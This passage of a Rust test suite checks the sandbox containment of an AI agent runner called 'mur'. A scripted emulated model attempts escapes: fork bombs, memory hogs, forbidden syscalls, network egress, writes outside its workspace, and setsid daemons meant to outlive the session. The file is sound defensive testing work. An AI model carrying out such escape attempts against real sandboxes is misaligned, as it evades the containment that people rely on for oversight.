            .env("LANG", "C.UTF-8")
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .env("MURMUR_REGISTRY", "/nonexistent-registry")
            .args(["run", "--json", "--task", &self.task])
            .arg(self.dir.path())
            .arg("--workdir")
            .arg(self.dir.path().join("work"));
        if self.class != Class::Scoped {
            // Scoped is the default: the suite runs it without asking.
            mur = mur.args(["--containment", self.class.name()]);
        }
        let mut command = mur.into_command();
        let leaked = std::os::fd::AsRawFd::as_raw_fd(&self.bait.leaked);
        // SAFETY: dup2 is async-signal-safe; both descriptors are valid.
        unsafe {
            std::os::unix::process::CommandExt::pre_exec(&mut command, move || {
                if libc::dup2(leaked, LEAK_FD) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        command
    }

    /// Runs `mur` to its end, telling the attacks its pid (`mur.pid` in the workspace, the
    /// children's `.`, as soon as the workspace exists).
    fn run(&self) -> std::process::Output {
        let mut mur = self
            .command()
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let deadline = Instant::now() + Duration::from_secs(60);
        while mur.try_wait().unwrap().is_none() && Instant::now() < deadline {
            if let Some(workspace) = self.workspace() {
                let path = workspace.join("mur.pid");
                std::fs::write(&path, mur.id().to_string()).unwrap();
                give(&path, self.owner);
                break;
            }
            std::thread::sleep(Duration::from_millis(10));
        }
        mur.wait_with_output().unwrap()
    }

    /// The session's record under `work/`, once it exists.
    fn record(&self) -> Option<PathBuf> {
        std::fs::read_dir(self.dir.path().join("work"))
            .ok()?
            .flatten()
            .map(|entry| entry.path())
            .find(|path| path.is_dir())
    }

    /// The session's fresh workspace (`<record>/workspace/`: the children's `.`), once it
    /// exists.
    fn workspace(&self) -> Option<PathBuf> {
        Some(self.record()?.join("workspace")).filter(|path| path.is_dir())
    }
}

/// A home for the unprivileged user's `mur` (its compiled-component cache kept between
/// runs), under `target/`.
fn user_home(uid: u32, gid: u32) -> PathBuf {
    let home = reachable().dir.join(format!("home-uid{uid}"));
    std::fs::create_dir_all(home.join("murmur")).unwrap();
    give(&home, Some((uid, gid)));
    home
}

/// What the model was handed for each call: call id to text (a shell call's stdout inside the
/// fence, or an MCP tool's text).
fn answers(emulator: &Emulator) -> std::collections::HashMap<String, Value> {
    let requests = emulator.requests();
    let Some(last) = requests.last() else {
        return Default::default();
    };
    let mut found = std::collections::HashMap::new();
    for message in last.body["messages"].as_array().unwrap() {
        for block in message["content"].as_array().cloned().unwrap_or_default() {
            if block["type"] != "tool_result" {
                continue;
            }
            let text = block["content"]
                .as_array()
                .map(|parts| parts[0]["text"].as_str().unwrap_or_default().to_string())
                .or_else(|| block["content"].as_str().map(str::to_string))
                .unwrap_or_default();
            let inner = text
                .split_once(">\n")
                .and_then(|(_, rest)| rest.rsplit_once("\n</untrusted-content>"))
                .map(|(inner, _)| inner.to_string())
                .unwrap_or(text);
            let value = serde_json::from_str(&inner).unwrap_or(Value::String(inner));
            found.insert(block["tool_use_id"].as_str().unwrap().to_string(), value);
        }
    }
    found
}

fn shell_call(id: &str, script: String) -> Reply {
    Reply::default().with_tool_call(
        id,
        "shell",
        json!({"binary": "python3", "args": ["-c", script], "timeout_secs": 60}),
    )
}

/// Sessions run as the unprivileged user take turns. Where no cgroup holds a session, its
/// process limit is RLIMIT_NPROC, which the kernel counts over all of the user's processes:
/// another session of the same user starting or ending meanwhile would move this one's
/// fork-bomb limit.
static UNPRIVILEGED_TURN: std::sync::Mutex<()> = std::sync::Mutex::new(());

/// Who may run: the user `mur` runs as for `who` (with the unprivileged user's turn, held
/// until the test ends), or `None` (said on stderr) when this host cannot.
struct Runner {
    owner: Option<(u32, u32)>,
    _turn: Option<std::sync::MutexGuard<'static, ()>>,
}

fn setup(who: Who) -> Option<Runner> {
    match runner(who) {
        Ok(owner) => {
            let turn = owner.map(|_| {
                UNPRIVILEGED_TURN
                    .lock()
                    .unwrap_or_else(std::sync::PoisonError::into_inner)
            });
            Some(Runner { owner, _turn: turn })
        }
        Err(why) => {
            eprintln!("skipped: {why}");
            None
        }
    }
}

/// `output` is `mur`'s refusal of a class this host cannot give: `E-CAP-020` naming the
/// class, a hint naming the flag, before any model call.
fn assert_refused(output: &std::process::Output, session: &Session) {
    let stdout = String::from_utf8_lossy(&output.stdout);
    let report: Value =
        serde_json::from_str(&stdout).unwrap_or_else(|_| panic!("no report: {output:#?}"));
    assert_ne!(output.status.code(), Some(0), "{report:#}");
    assert_eq!(report["error"]["code"], "E-CAP-020", "{report:#}");
    let message = report["error"]["message"].as_str().unwrap();
    assert!(
        message.contains(&format!("`{}`", session.class.name())),
        "{message}"
    );
    let hint = report["error"]["hint"].as_str().unwrap_or_default();
    assert!(hint.contains("--containment"), "{report:#}");
    assert!(
        session.emulator.requests().is_empty(),
        "the model was called"
    );
}

/// Whether `output` is a refusal with `E-CAP-020`.
fn refused_class(output: &std::process::Output) -> bool {
    serde_json::from_str::<Value>(&String::from_utf8_lossy(&output.stdout))
        .is_ok_and(|report| report["error"]["code"] == "E-CAP-020")
}

fn read_trace(record: &Path) -> Vec<Value> {
    std::fs::read_to_string(record.join("trace.jsonl"))
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

/// The class, user and resource holder the trace's `session_start` records.
fn ran_under(trace: &[Value], class: Class, root: bool) -> Ran {
    let containment = &trace[0]["containment"];
    assert_eq!(containment["asked"], class.name(), "{containment:#}");
    assert_eq!(containment["achieved"], class.name(), "{containment:#}");
    let cgroup = containment["mechanisms"]
        .as_array()
        .unwrap()
        .iter()
        .find(|m| m["name"] == "cgroup")
        .unwrap_or_else(|| panic!("no cgroup mechanism: {containment:#}"));
    if class != Class::Advisory {
        // Held by a cgroup, or by named stand-ins: never off.
        assert!(
            cgroup["state"] == "enforced"
                || (cgroup["state"] == "stand_in"
                    && cgroup["detail"].as_str().unwrap().contains("RLIMIT_NPROC")
                    && cgroup["detail"].as_str().unwrap().contains("RLIMIT_AS")),
            "{containment:#}"
        );
    }
    Ran {
        class,
        root,
        cgroups: cgroup["state"] == "enforced",
    }
}

/// The `shell` event of call `id`.
fn shell_event<'a>(trace: &'a [Value], id: &str) -> &'a Value {
    trace
        .iter()
        .find(|e| e["event_type"] == "shell" && e["call_id"] == id)
        .unwrap_or_else(|| panic!("no shell event for {id}"))
}

/// The times (seconds) the shell call's daemon ticked into `workspace` (its `.`).
fn ticks(workspace: &Path) -> Vec<f64> {
    std::fs::read_to_string(workspace.join("daemon.ticks"))
        .unwrap_or_default()
        .lines()
        .filter_map(|line| line.trim().parse().ok())
        .collect()
}

/// The whole suite of attacks in one session of `class`, `mur` run by `who`.
fn suite(class: Class, who: Who) {
    let Some(run_as) = setup(who) else { return };
    let owner = run_as.owner;
    let session = Session::new(class, owner, |prelude| {
        let mut script = Script::new()
            .with_turn(Turn::reply(Reply::default().with_tool_call(
                "mcp_daemon",
                "spawner__spawn",
                json!({}),
            )))
            .with_turn(Turn::reply(Reply::default().with_tool_call(
                "named_bash",
                "shell",
                json!({"binary": "/usr/bin/bash", "args": ["-c", "echo escaped"]}),
            )));
        for (name, body) in attacks() {
            script = script.with_turn(Turn::reply(shell_call(name, format!("{prelude}{body}"))));
            if name == "setsid_daemon" {
                // The turn after comes late: a daemon that outlived its call ticks meanwhile.
                script = script.with_turn(
                    Turn::reply(shell_call("after_daemon", "print('after')".to_string()))
                        .with_first_byte_delay_ms(AFTER_DAEMON_MS),
                );
            }
        }
        script.with_turn(Turn::reply(Reply::text("done")))
    });
    let started = Instant::now();
    let output = session.run();
    let took = started.elapsed();
    if class == Class::Sealed && refused_class(&output) {
        assert_refused(&output, &session);
        return;
    }
    let report: Value = serde_json::from_str(&String::from_utf8_lossy(&output.stdout))
        .unwrap_or_else(|_| panic!("no report: {output:#?}"));
    assert_eq!(output.status.code(), Some(0), "{report:#}\n{output:#?}");
    assert_eq!(report["tasks"][0]["result_text"], "done", "{report:#}");
    let record = PathBuf::from(report["workdir"].as_str().unwrap());
    let workspace = PathBuf::from(report["workspace"].as_str().unwrap());
    assert_eq!(workspace, record.join("workspace"), "{report:#}");
    let trace = read_trace(&record);
    let ran = ran_under(&trace, class, owner.is_none() && who == Who::Root);
    let answers = answers(&session.emulator);
    let mut bait = session.bait;
    // Everything observed, and every way it differs from what the class promises.
    let mut observed = Vec::new();
    let mut failures: Vec<String> = Vec::new();
    let mut check = |case: &str, ok: bool, what: String| {
        observed.push(format!("{case}: {what}"));
        if !ok {
            failures.push(format!("{case}: {what}"));
        }
    };
    let stdout = |id: &str| -> String {
        answers
            .get(id)
            .map(|a| {
                a["stdout"]
                    .as_str()
                    .unwrap_or_default()
                    .trim_end()
                    .to_string()
            })
            .unwrap_or_else(|| format!("<no answer for {id}>"))
    };
    for (name, _) in attacks() {
        if let Some(line) = expected(name, ran) {
            let got = stdout(name);
            check(name, got == line, format!("{got:?} (expected {line:?})"));
        }
    }
    let held = class != Class::Advisory;

    // The model naming a binary not allowed: refused before anything runs.
    let named = answers.get("named_bash").cloned().unwrap_or_default();
    check(
        "named_bash",
        named.to_string().contains("E-CAP-006")
            && shell_event(&trace, "named_bash")["error"]["code"] == "E-CAP-006",
        named.to_string(),
    );

    // The six system calls: EPERM each, counted on the call's event.
    let event = shell_event(&trace, "syscalls");
    let refused: Vec<String> = event["contained"]["syscalls_refused"]
        .as_array()
        .map(|pairs| {
            pairs
                .iter()
                .filter(|p| p[1].as_u64().unwrap_or(0) >= 1)
                .map(|p| p[0].as_str().unwrap_or_default().to_string())
                .collect()
        })
        .unwrap_or_default();
    let six = [
        "io_uring_setup",
        "bpf",
        "userfaultfd",
        "keyctl",
        "perf_event_open",
        "open_by_handle_at",
    ];
    if held {
        check(
            "syscalls_counted",
            six.iter().all(|name| refused.iter().any(|r| r == name)),
            format!("contained: {}", event["contained"]),
        );
    } else {
        // Advisory has no filter: the calls reach the kernel, which answers them (keyctl is
        // open to any user: it succeeds), and nothing is counted.
        let got = stdout("syscalls");
        check(
            "syscalls",
            got.contains(" keyctl=ok ") && event.get("contained").is_none(),
            format!("{got:?} contained: {}", event["contained"]),
        );
    }

    // The fork bomb: EAGAIN before max_processes, and the call ends by itself.
    let got = stdout("fork_bomb");
    let event = shell_event(&trace, "fork_bomb");
    let forked: Option<u32> = got
        .strip_prefix("errno=EAGAIN forked=")
        .and_then(|n| n.parse().ok());
    if held {
        check(
            "fork_bomb",
            // Under the RLIMIT_NPROC stand-in the kernel counts the user's processes
            // everywhere: the child is given max_processes more than the user ran when it
            // started, so it forks some, and never max_processes (others may start meanwhile).
            forked.is_some_and(|n| n > 0 && n < MAX_PROCESSES)
                && event["exit_code"] == 0
                && event["timed_out"] == false,
            format!(
                "{got:?} exit {} timed_out {}",
                event["exit_code"], event["timed_out"]
            ),
        );
    } else {
        check(
            "fork_bomb",
            got == "forked=100" && event["exit_code"] == 0,
            format!("{got:?} (advisory: no process limit)"),
        );
    }

    // The memory hog: killed by the cgroup, or refused by RLIMIT_AS where it stands in.
    let got = stdout("memory_hog");
    let event = shell_event(&trace, "memory_hog");
    let (ok, what) = match (held, ran.cgroups) {
        (true, true) => (
            got.is_empty()
                && event.get("exit_code").is_none()
                && event["contained"]["oom_kills"].as_u64().unwrap_or(0) >= 1,
            format!(
                "{got:?} exit {} contained {} (expected killed by the cgroup)",
                event["exit_code"], event["contained"]
            ),
        ),
        (true, false) => (
            got == "MemoryError",
            format!("{got:?} (expected MemoryError under RLIMIT_AS)"),
        ),
        (false, _) => (
            got == "allocated=512",
            format!("{got:?} (advisory: no memory limit)"),
        ),
    };
    check("memory_hog", ok, what);

    // The host's side: what must stay, what must hear nothing.
    check(
        "secret_kept",
        std::fs::read_to_string(&bait.secret).is_ok_and(|s| s == "the outside secret"),
        format!("{}", bait.secret.display()),
    );
    for left in ["written.txt", "link", "hard", "moved"] {
        let path = bait.outside.path().join(left);
        check(
            "nothing_written_outside",
            !path.exists() && path.symlink_metadata().is_err(),
            format!(
                "{} exists: {}",
                path.display(),
                path.symlink_metadata().is_ok()
            ),
        );
    }
    // A datagram or a connection may lag its sender a little: where they are let through,
    // wait until each has arrived (at most 10 s); where they are held, give them the time
    // they would have taken.
    let lagging = [
        &bait.other_host,
        &bait.udp,
        &bait.unix_path,
        &bait.unix_abstract,
    ];
    if held {
        std::thread::sleep(Duration::from_millis(200));
    } else {
        let deadline = Instant::now() + Duration::from_secs(10);
        while lagging.iter().any(|heard| heard.count() == 0) && Instant::now() < deadline {
            std::thread::sleep(Duration::from_millis(20));
        }
    }
    let reached = |heard: &Heard| {
        if held {
            heard.count() == 0
        } else {
            heard.count() >= 1
        }
    };
    for (case, heard) in [
        ("tcp_other_host_heard", &bait.other_host),
        ("udp_heard", &bait.udp),
        ("unix_path_heard", &bait.unix_path),
        ("unix_abstract_heard", &bait.unix_abstract),
    ] {
        check(
            case,
            reached(heard),
            format!("{} connection(s) or datagram(s)", heard.count()),
        );
    }
    // The proxy's refusal is traced, naming the host and port.
    let gateway = session.emulator.addr().port();
    let refusals: Vec<&Value> = trace
        .iter()
        .filter(|e| e["event_type"] == "egress_refused")
        .collect();
    let named_host = refusals
        .iter()
        .any(|e| e["host"] == "127.0.0.2" && e["port"] == gateway);
    check(
        "proxy_refusal_traced",
        named_host == held,
        format!("egress_refused events: {refusals:?}"),
    );
    let alive = bait.sleeper_alive();
    check(
        "sleeper",
        alive == held,
        format!("the host's sleeper alive: {alive}"),
    );

    // The shell call's setsid daemon: it ticked, and not after its call's end (held).
    let ticked = ticks(&workspace);
    let ended = shell_event(&trace, "setsid_daemon")["timestamp"]
        .as_u64()
        .unwrap() as f64
        / 1000.0;
    let last = ticked.last().copied().unwrap_or(0.0);
    check(
        "setsid_daemon_ticks",
        !ticked.is_empty()
            && if held {
                last <= ended + 0.5
            } else {
                last >= ended + 1.5
            },
        format!(
            "{} ticks, the last {:.2}s after its call's event",
            ticked.len(),
            last - ended
        ),
    );
    // Once `mur` is gone, no daemon of the session is (held).
    let mcp = answers
        .get("mcp_daemon")
        .map(Value::to_string)
        .unwrap_or_default();
    check("mcp_daemon", mcp.contains("spawned"), mcp);
    for what in ["shell", "mcp"] {
        let left = processes_marked(&format!("{}-{what}", session.mark));
        check(
            &format!("{what}_daemon_after_mur"),
            left.is_empty() == held,
            format!("processes left: {left:?}"),
        );
    }
    eprintln!(
        "{} as {who:?} ({:.1}s, cgroups {}):\n  {}",
        class.name(),
        took.as_secs_f64(),
        ran.cgroups,
        observed.join("\n  ")
    );
    assert!(
        failures.is_empty(),
        "{} as {who:?}: {} case(s) differ:\n  {}",
        class.name(),
        failures.len(),
        failures.join("\n  ")
    );
}

/// A session of `class` run by `who` whose MCP server and shell call each leave a setsid
/// daemon, `mur` SIGKILLed while the shell call still runs: held, no daemon lives on.
fn killed_mid_session(class: Class, who: Who) {
    let Some(run_as) = setup(who) else { return };
    let owner = run_as.owner;
    let session = Session::new(class, owner, |prelude| {
        Script::new()
            .with_turn(Turn::reply(Reply::default().with_tool_call(
                "mcp_daemon",
                "spawner__spawn",
                json!({}),
            )))
            .with_turn(Turn::reply(shell_call(
                "setsid_daemon",
                format!("{prelude}{DAEMON}\nprint(attempt(daemon), flush=True)\ntime.sleep(120)"),
            )))
            .with_turn(Turn::reply(Reply::text("done")))
    });
    let mut mur = session
        .command()
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let (shell, mcp) = (
        format!("{}-shell", session.mark),
        format!("{}-mcp", session.mark),
    );
    let deadline = Instant::now() + Duration::from_secs(90);
    let workspace = loop {
        if let Some(status) = mur.try_wait().unwrap() {
            let mut stdout = Vec::new();
            mur.stdout.take().unwrap().read_to_end(&mut stdout).unwrap();
            let output = std::process::Output {
                status,
                stdout,
                stderr: Vec::new(),
            };
            if class == Class::Sealed && refused_class(&output) {
                assert_refused(&output, &session);
                return;
            }
            panic!("mur ended before its shell call ran: {output:#?}");
        }
        if let Some(workspace) = session.workspace()
            && !ticks(&workspace).is_empty()
            && !processes_marked(&mcp).is_empty()
        {
            break workspace;
        }
        assert!(Instant::now() < deadline, "the daemons never started");
        std::thread::sleep(Duration::from_millis(50));
    };
    assert!(
        !processes_marked(&shell).is_empty(),
        "the shell daemon runs"
    );
    mur.kill().unwrap();
    mur.wait().unwrap();
    std::thread::sleep(Duration::from_millis(1000));
    if class != Class::Advisory {
        // Held: the daemons go with their guardians; a loaded machine may take longer.
        let deadline = Instant::now() + Duration::from_secs(10);
        while !(processes_marked(&shell).is_empty() && processes_marked(&mcp).is_empty())
            && Instant::now() < deadline
        {
            std::thread::sleep(Duration::from_millis(50));
        }
    }
    let before = ticks(&workspace).len();
    std::thread::sleep(Duration::from_millis(500));
    let after = ticks(&workspace).len();
    let (shell_left, mcp_left) = (processes_marked(&shell), processes_marked(&mcp));
    let what = format!(
        "{} as {who:?}, mur SIGKILLed: shell daemon {shell_left:?}, MCP daemon {mcp_left:?}, \
         ticks {before} then {after}",
        class.name()
    );
    eprintln!("{what}");
    if class == Class::Advisory {
        // Today's advisory: a setsid daemon leaves the process group the guardian kills.
        assert!(!shell_left.is_empty() && !mcp_left.is_empty(), "{what}");
        assert!(after > before, "{what}");
    } else {
        assert!(shell_left.is_empty() && mcp_left.is_empty(), "{what}");
        assert_eq!(before, after, "{what}");
    }
}

#[test]
fn scoped_as_root_holds_every_attack() {
    suite(Class::Scoped, Who::Root);
}

#[test]
fn scoped_as_an_unprivileged_user_holds_every_attack() {
    suite(Class::Scoped, Who::Unprivileged);
}

#[test]
fn advisory_as_root_is_todays_weaker_hold() {
    suite(Class::Advisory, Who::Root);
}

#[test]
fn advisory_as_an_unprivileged_user_is_todays_weaker_hold() {
    suite(Class::Advisory, Who::Unprivileged);
}

#[test]
fn sealed_as_root_holds_every_attack() {
    suite(Class::Sealed, Who::Root);
}

#[test]
fn sealed_as_an_unprivileged_user_holds_every_attack() {
    suite(Class::Sealed, Who::Unprivileged);
}

#[test]
fn scoped_daemons_die_with_a_killed_mur_as_root() {
    killed_mid_session(Class::Scoped, Who::Root);
}

#[test]
fn scoped_daemons_die_with_a_killed_mur_as_an_unprivileged_user() {
    killed_mid_session(Class::Scoped, Who::Unprivileged);
}

#[test]
fn advisory_daemons_outlive_a_killed_mur_as_root() {
    killed_mid_session(Class::Advisory, Who::Root);
}

#[test]
fn advisory_daemons_outlive_a_killed_mur_as_an_unprivileged_user() {
    killed_mid_session(Class::Advisory, Who::Unprivileged);
}

#[test]
fn sealed_daemons_die_with_a_killed_mur_as_root() {
    killed_mid_session(Class::Sealed, Who::Root);
}

#[test]
fn sealed_daemons_die_with_a_killed_mur_as_an_unprivileged_user() {
    killed_mid_session(Class::Sealed, Who::Unprivileged);
}
